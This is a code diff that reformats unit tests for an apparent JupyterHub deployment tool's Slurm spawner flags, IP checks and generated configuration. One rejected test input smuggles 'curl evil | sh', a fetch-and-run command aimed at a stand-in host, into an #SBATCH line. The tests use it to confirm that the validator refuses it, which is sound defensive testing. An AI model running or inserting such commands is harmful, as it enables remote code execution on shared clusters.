@@ -33,7 +33,8 @@ describe('--spawner slurm: the flags', () => {
     expect(parseMemory('2G')).to.deep.equal({memory: '2G', megabytes: 2048})
     expect(parseMemory('512m')).to.deep.equal({memory: '512M', megabytes: 512})
     expect(parseMemory('1000')).to.deep.equal({memory: '1000M', megabytes: 1000})
-    for (const bad of ['2GB', '-1G', '0', 'lots', '1.5G']) expect(thrown(() => parseMemory(bad)).exitCode, bad).to.equal(2)
+    for (const bad of ['2GB', '-1G', '0', 'lots', '1.5G'])
+      expect(thrown(() => parseMemory(bad)).exitCode, bad).to.equal(2)
   })
 
   it('takes only #SBATCH lines in --slurm-extra', () => {
@@ -41,7 +42,13 @@ describe('--spawner slurm: the flags', () => {
       '#SBATCH --account=physics',
       '#SBATCH --qos=short',
     ])
-    for (const bad of ['#SBATCH --account=x\ncurl evil | sh', 'echo hi', '#SBATCH', '# SBATCH --qos=x', '#SBATCH --x={{cmd}}'])
+    for (const bad of [
+      '#SBATCH --account=x\ncurl evil | sh',
+      'echo hi',
+      '#SBATCH',
+      '# SBATCH --qos=x',
+      '#SBATCH --x={{cmd}}',
+    ])
       expect(thrown(() => parseExtra([bad])).message, bad).to.include('which is not an #SBATCH line')
   })
 
@@ -79,7 +86,9 @@ describe('--hub-connect-ip', () => {
 
   it('refuses a public address, and one that is not this machine', () => {
     expect(thrown(() => checkHubConnectIp('203.0.113.7', addresses)).message).to.include('is a public address')
-    expect(thrown(() => checkHubConnectIp('10.9.9.9', addresses)).message).to.include('is not an address of this machine')
+    expect(thrown(() => checkHubConnectIp('10.9.9.9', addresses)).message).to.include(
+      'is not an address of this machine',
+    )
   })
 
   it('refuses 0.0.0.0 on a machine whose only other address is public; warns otherwise', () => {
@@ -110,7 +119,14 @@ describe('the Slurm spawner in jupyterhub_config.py', () => {
     const text = await renderHubConfig(
       new Layout('/tmp/hubctl-slurm-unit'),
       settings,
-      {executable: '/opt/jh/bin/jupyterhub', version: '6.1.1', major: 6, minor: 1, singleuser: '/opt/jh/bin/jupyterhub-singleuser', python: '/opt/jh/bin/python3'},
+      {
+        executable: '/opt/jh/bin/jupyterhub',
+        version: '6.1.1',
+        major: 6,
+        minor: 1,
+        singleuser: '/opt/jh/bin/jupyterhub-singleuser',
+        python: '/opt/jh/bin/python3',
+      },
       '/lab',
     )
     expect(text).to.include('c.JupyterHub.spawner_class = "batchspawner.SlurmSpawner"')
